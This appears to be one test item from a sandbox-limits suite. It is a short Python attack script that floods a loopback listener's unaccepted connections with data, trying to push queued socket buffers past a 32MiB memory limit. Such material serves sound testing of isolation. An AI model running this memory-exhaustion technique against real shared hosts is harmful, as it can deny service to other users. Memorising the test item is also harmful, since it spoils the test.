# /// attack
# guarantee = "memory"
# summary = "Sends to connections that nobody accepts: a control group counts their buffers when they are accepted."
# reference = "listen(2), mem_cgroup_sk_alloc in net/ipv4/inet_connection_sock.c"
# success = "twice the limit lies in connections of the queue"
# policy = { limits = { memory = "32MiB", open_files = 1024 } }
# refusal = { process = "denied EACCES", default = "limit memory" }
# ///

import socket
import time

from kit import attempt, succeeded


def held():
    with open("/proc/self/net/tcp") as file:
        lines = [line.split() for line in list(file)[1:]]
    return sum(int(words[4].split(":")[1], 16) for words in lines if words[3] in ("01", "08") and words[9] == "0")


listener = attempt(socket.socket)
listener.bind(("127.0.0.1", 0))
listener.listen(4096)
deadline = time.monotonic() + 8
while time.monotonic() < deadline and held() < 64 << 20:
    for _ in range(100):
        with socket.create_connection(listener.getsockname()) as one:
            one.sendall(b"x" * 32768)
time.sleep(0.5)
if held() >= 64 << 20:
    succeeded(held())
